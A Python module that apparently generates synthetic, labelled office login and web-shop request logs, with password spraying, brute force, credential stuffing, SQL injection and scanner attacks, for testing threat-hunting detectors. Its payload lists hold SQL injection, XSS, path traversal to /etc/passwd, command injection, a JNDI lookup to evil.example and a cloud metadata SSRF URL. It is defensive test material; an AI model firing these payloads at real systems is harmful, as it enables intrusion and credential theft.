"""An office and a shop, made up: logins and requests of ordinary days, and attacks with their truth.

Synthetic, and said to be so wherever its figures stand; seeded, so always the same. What is ordinary is
made nasty on purpose: people mistype, a hundred share one address, programs go on with old passwords,
phones do, jump hosts, backups by the clock; visitors search for O'Brien, "select a plan", sums and code.
Attacks follow what tools do (rates, retries, encodings), not what any detector here asks for.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Final
from urllib.parse import quote, quote_plus

from vedette.hunt.actions import FAILURE, HTTP, LOGIN, SUCCESS
from vedette.hunt.event import Event, Logsource, Value
from vedette.hunt.instants import DAY, HOUR, MINUTE, SECOND

START: Final = 1_772_409_600 * SECOND
"""Monday, 2 March 2026."""
_AUTH: Final = Logsource(product="windows", service="security")
_SSH: Final = Logsource(product="linux", service="sshd")
_WEB: Final = Logsource(category="webserver")


@dataclass(slots=True)
class Set:
    """Events and what they hold."""

    events: list[Event] = field(default_factory=list)
    truth: dict[str, set[str]] = field(default_factory=dict)
    """Kind of attack: its sources."""

    def sorted(self) -> list[Event]:
        """Return them in order of time."""
        return sorted(self.events, key=lambda event: event.time or 0)


def login(time: int, user: str, source: str, host: str, *, good: bool) -> Event:
    """Make a login."""
    outcome = SUCCESS if good else FAILURE
    fields: dict[str, Value] = {
        "TargetUserName": user,
        "IpAddress": source,
        "EventID": 4624 if good else 4625,
    }
    return Event(
        source=0,
        record=0,
        time=time,
        logsource=_AUTH,
        fields=fields,
        action=LOGIN,
        outcome=outcome,
        host=host,
        user=user,
        source_ip=source,
        logon_type=3,
    )


def office(chance: random.Random, people: int = 250, days: int = 5) -> Iterator[Event]:
    """Give the logins of an office: people at desks, some behind one address, some programs gone wrong."""
    servers = [f"srv{number:02}" for number in range(12)]
    for person in range(people):
        user, desk = f"user{person:03}", f"10.1.{person // 200}.{person % 200 + 10}"
        where = "10.9.0.5" if person % 5 == 0 else desk
        for day in range(days):
            yield from _day(chance, user, where, servers, START + day * DAY)
        if person % 40 == 7:  # noqa: PLR2004  changed a password, and the phone goes on with the old one
            yield from _phone(chance, user, f"172.20.3.{person % 250}", START + 2 * DAY + 9 * HOUR)
    for number, every in enumerate((30, 60, 300)):  # old passwords
        at = START + 3 * HOUR
        while at < START + days * DAY:
            yield login(at, f"svc-{number}", f"10.2.0.{number + 5}", servers[number], good=False)
            at += every * SECOND
    for day in range(days):  # a backup account reaches every server each night
        for number, server in enumerate(servers):
            yield login(
                START + day * DAY + 2 * HOUR + number * MINUTE, "backup", "10.2.0.99", server, good=True
            )


def _day(chance: random.Random, user: str, where: str, servers: list[str], midnight: int) -> Iterator[Event]:
    at = midnight + int(chance.gauss(8.5, 0.7) * HOUR)
    for number in range(chance.randint(4, 20)):
        slips = 0
        while chance.random() < (0.10 if number == 0 else 0.015) and slips < 4:  # noqa: PLR2004
            yield login(at, user, where, servers[0], good=False)
            at += chance.randint(3, 20) * SECOND
            slips += 1
        if slips < 4 or chance.random() < 0.5:  # noqa: PLR2004
            yield login(at, user, where, chance.choice(servers), good=True)
        at += int(chance.expovariate(1 / 30)) * MINUTE + SECOND


def _phone(chance: random.Random, user: str, where: str, at: int) -> Iterator[Event]:
    for _ in range(60):
        yield login(at, user, where, "mail", good=False)
        at += chance.randint(8, 22) * MINUTE


def guessing(chance: random.Random) -> Set:
    """Return an office with five ways to guess passwords in it."""
    made = Set(list(office(chance)))
    at = START + DAY + chance.randint(8, 16) * HOUR
    users = [f"user{number:03}" for number in range(250)]

    fast = f"203.0.113.{chance.randint(1, 250)}"
    for number, user in enumerate(chance.sample(users, 60)):
        made.events.append(login(at + number * 4 * SECOND, user, fast, "srv00", good=False))
    made.events.append(login(at + 300 * SECOND, users[3], fast, "srv00", good=True))
    made.truth["spray"] = {fast}

    slow, moment = f"198.51.100.{chance.randint(1, 250)}", START + 3 * HOUR
    for user in chance.sample(users, 80):
        made.events.append(login(moment, user, slow, "srv01", good=False))
        moment += chance.randint(40, 70) * MINUTE
    made.truth["slow spray"] = {slow}

    inside, moment = "10.1.0.77", START + 2 * DAY + 22 * HOUR  # from a desk that has its own person
    for _ in range(2):
        for user in chance.sample(users, 35):
            made.events.append(login(moment, user, inside, "srv02", good=False))
            moment += chance.randint(1, 5) * SECOND
        moment += 40 * MINUTE
    made.truth["spray from a desk"] = {inside}

    brute, moment = f"192.0.2.{chance.randint(1, 250)}", START + 2 * DAY + 4 * HOUR
    for _ in range(chance.randint(150, 900)):
        made.events.append(login(moment, "administrator", brute, "srv03", good=False))
        moment += chance.randint(1, 6) * SECOND
    if chance.random() < 0.5:  # noqa: PLR2004
        made.events.append(login(moment, "administrator", brute, "srv03", good=True))
    made.truth["brute force"] = {brute}

    made.truth["stuffing"] = _stuffing(chance, made, users)
    return made


def _stuffing(chance: random.Random, made: Set, users: list[str]) -> set[str]:
    sources = [
        f"100.{chance.randint(70, 120)}.{chance.randint(0, 255)}.{chance.randint(1, 250)}" for _ in range(90)
    ]
    moment = START + 3 * DAY + 12 * HOUR
    for number in range(400):
        user = chance.choice(users) if number % 4 == 0 else f"mail{number}@example.com"
        made.events.append(login(moment, user, chance.choice(sources), "vpn", good=False))
        moment += chance.randint(2, 40) * SECOND
    return set(sources)


_SEARCHES: Final = (
    "O'Brien",
    "select a plan",
    "rock'n'roll",
    "drop table lamp",
    "5 > 3 and 2 < 4",
    "union square hotels",
    "C++ & C#",
    "l'été",
    "50% off",
    "x=1;y=2",
    "how to use <div> tags",
    "bed & breakfast",
    "1/2 inch (12mm) bolt",
    "what's new?",
    ('"exact phrase" -not'),
    "if all else fails",
    "or else",
    "order by phone",
    "group by age",
    "tom & jerry; cat and mouse",
    "script for a play",
    "R&D|QA",
    "alert level (high)",
    "http://localhost:3000/docs",
    "C:\\Program Files",
    "../readme",
    "{{name}}",
    "${price}",
    "a->b",
    "#1 & #2",
    "user@example.com",
    "price between 10 and 20",
    "where is waldo",
    "like a rolling stone",
    "insert coin",
    "delete my account",
    "exec summary",
    "update 2026",
    "2+2=4",
    "f(x)=sin(x)",
    "Smith and Wesson",
    "1 or 2 rooms",
    "it's 5 o'clock",
)
_AGENTS: Final = (
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like"
        " Gecko) Chrome/121.0.0.0 Safari/537.36"
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15"
        " (KHTML, like Gecko) Version/17.2 Mobile/15E148"
    ),
    "Mozilla/5.0 (compatible; Examplebot/2.1; +http://bot.example/about)",
)
_PAGES: Final = (
    "/",
    "/shop",
    "/shop/item",
    "/search",
    "/api/v1/items",
    "/blog/post",
    "/download",
    "/account",
    "/static/app.js",
)


def request(at: tuple[int, str], url: str, status: int, size: int, agent: str = _AGENTS[0]) -> Event:
    """Make a request: when and from where, for what, and what came back."""
    time, source = at
    fields: dict[str, Value] = {"cs-uri-query": url, "sc-status": status, "cs-user-agent": agent}
    return Event(
        source=0,
        record=0,
        time=time,
        logsource=_WEB,
        fields=fields,
        action=HTTP,
        source_ip=source,
        domain="shop.example",
        method="GET",
        url=url,
        status=status,
        bytes_in=size,
        user_agent=agent,
    )


def shop(chance: random.Random, requests: int = 40_000) -> Iterator[Event]:
    """Give the requests of a shop's visitors."""
    sizes = {page: chance.randint(2_000, 40_000) for page in _PAGES}
    for number in range(requests):
        source = f"81.{chance.randint(0, 30)}.{chance.randint(0, 255)}.{chance.randint(1, 254)}"
        page = chance.choice(_PAGES)
        url, status = page, 200
        if page == "/search":
            url += "?q=" + (quote_plus if number % 2 else quote)(chance.choice(_SEARCHES))
        elif page in {"/shop/item", "/api/v1/items", "/blog/post"}:
            url += (
                f"?id={chance.randint(1, 900)}&ref={chance.choice(('home', 'mail;2', 'a,b', '%2Fshop%2F'))}"
            )
        elif page == "/download":
            url += f"?file={chance.choice(('report.pdf', 'docs/guide.html', 'a/b/c.zip'))}"
        if chance.random() < 0.02:  # noqa: PLR2004
            url, status = f"/old/{chance.randint(1, 400)}.html", 404
        size = 512 if status == 404 else int(sizes[page] * chance.uniform(0.95, 1.05))  # noqa: PLR2004
        yield request((START + number * 2 * SECOND, source), url, status, size, chance.choice(_AGENTS))


_SQL: Final = (
    "1' OR '1'='1",
    "1 AND 1=2",
    "1' UNION SELECT NULL,username,password FROM users-- -",
    "1;WAITFOR DELAY '0:0:5'--",
    "-1 union all select 1,2,3,version(),5#",
    "1' AND SLEEP(5)-- ",
    "admin'-- ",
    "1 and extractvalue(1,concat(0x7e,database()))",
)
_OTHERS: Final = (
    "<script>alert(1)</script>",
    ('"><img src=x onerror=alert(document.domain)>'),
    "../../../../etc/passwd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "; cat /etc/passwd",
    "$(id)",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "http://169.254.169.254/latest/meta-data/",
    "php://filter/convert.base64-encode/resource=index.php",
    "|whoami",
    "<svg/onload=confirm(1)>",
)


def web(chance: random.Random) -> Set:
    """Return a shop with four attackers in it: one by hand, one that gets in, a scanner, a single request."""
    made = Set(list(shop(chance)))
    usual = next(event.bytes_in or 0 for event in made.events if (event.url or "").startswith("/shop/item"))
    at = START + 5 * HOUR

    hand = f"198.51.100.{chance.randint(1, 250)}"
    for number, payload in enumerate(chance.sample(_SQL, 5)):
        encode = chance.choice((quote, quote_plus))
        made.events.append(
            request((at + number * 40 * SECOND, hand), f"/shop/item?id={encode(payload)}", 500, 800)
        )
    made.truth["by hand"] = {hand}

    thief = f"203.0.113.{chance.randint(1, 250)}"
    for number in range(6):
        url = f"/shop/item?id={quote(chance.choice(_SQL[:3]))}"
        made.events.append(request((at + number * MINUTE, thief), url, 200, usual * 3 + number * 900))
    made.truth["gets in"] = {thief}

    scanner = f"192.0.2.{chance.randint(1, 250)}"
    for number in range(300):
        path = (
            f"/{chance.choice(('admin', 'cgi-bin', 'wp-content', 'test', 'old'))}/{chance.randint(1, 999)}"
            ".php"
        )
        url = path if number % 2 else f"{path}?p={quote(chance.choice(_OTHERS + _SQL))}"
        made.events.append(request((at + number * SECOND, scanner), url, 404, 512))
    made.truth["scanner"] = {scanner}

    single = f"100.{chance.randint(70, 120)}.7.7"
    made.events.append(
        request((at + HOUR, single), f"/search?q={quote(quote(chance.choice(_OTHERS)))}", 200, 9_000)
    )
    made.truth["single request"] = {single}
    return made
